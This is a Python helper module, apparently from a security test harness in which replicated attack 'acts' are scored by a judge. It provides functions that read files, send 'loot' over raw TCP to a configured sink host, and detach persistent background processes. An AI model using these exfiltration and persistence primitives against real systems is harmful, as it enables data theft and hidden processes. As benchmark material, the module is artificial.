"""Lies beside a replica's act in its package: its targets, and ways to show what it got.  Standard library only, Python 3.8+.

target("canary") is the row's own; other targets are said by the row's setup, and by the world: home, venv, site, work, temp, sink_host,
sink_host6, sink_port, udp_port, user, marker (put it into the arguments of what must not outlive), native (the static program), native_so."""
import base64
import json
import os
import socket
import subprocess
import sys

_here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(_here, "targets.json")) as _f:
    _targets = json.load(_f)


def target(name):
    return _targets[name]


def here(name):
    """A file of the package."""
    return os.path.join(_here, name)


def _bytes(data):
    return data if isinstance(data, bytes) else str(data).encode("utf-8", "surrogateescape")


def send(data, host=None, port=None, timeout=5):
    """Plain TCP, to the sink where nothing else is said.  Raises what connect raises."""
    with socket.create_connection((host or target("sink_host"), port or target("sink_port")), timeout) as s:
        s.sendall(_bytes(data))


def leak(data):
    """send(), whatever becomes of it.  True: it went out."""
    try:
        send(b"PWFIX " + target("id").encode() + b" " + _bytes(data))
        return True
    except OSError as e:
        say("leak: %r" % e)
        return False


def loot(data):
    """What was stolen: leaked, and printed encoded, so that the judge sees it even where nothing can be sent."""
    data = _bytes(data)
    print("PWLOOT:%s:%s:" % (target("id"), base64.b64encode(data[:200000]).decode()), flush=True)
    return leak(data)


def mark(path, text=None):
    """A file, with the row's canary in it."""
    with open(path, "a") as f:
        f.write((target("canary") if text is None else text) + "\n")


def say(text):
    print("PWSAY %s %s" % (target("id"), text), flush=True)


def native(name=None, library=False, check=False, timeout=30):
    """Runs an act of native/ in the static program; library: in this process."""
    name = name or target("act")
    if library:
        import ctypes
        return ctypes.CDLL(here("pwnative.so")).pw_act(name.encode(), here("targets.txt").encode())
    path = here("pwnative")
    os.chmod(path, 0o755) if not os.access(path, os.X_OK) else None
    return subprocess.run([path, name, here("targets.txt")], check=check, timeout=timeout).returncode


def attempt(function, *args, **more):
    """What it returns, or None, and says why."""
    try:
        return function(*args, **more)
    except BaseException as e:
        say("%s: %s: %s" % (getattr(function, "__name__", "?"), type(e).__name__, e))
        return None


def read(path):
    """A file's bytes; b"" where it cannot be had."""
    try:
        with open(os.path.expanduser(path), "rb") as f:
            return f.read()
    except OSError as e:
        say("read: %r" % e)
        return b""


def detach(code, *args):
    """A process that outlives this one: its own session, its own interpreter; it has the row's marker in its arguments."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", code, *args, target("marker")])
        os._exit(0)
    os.wait()
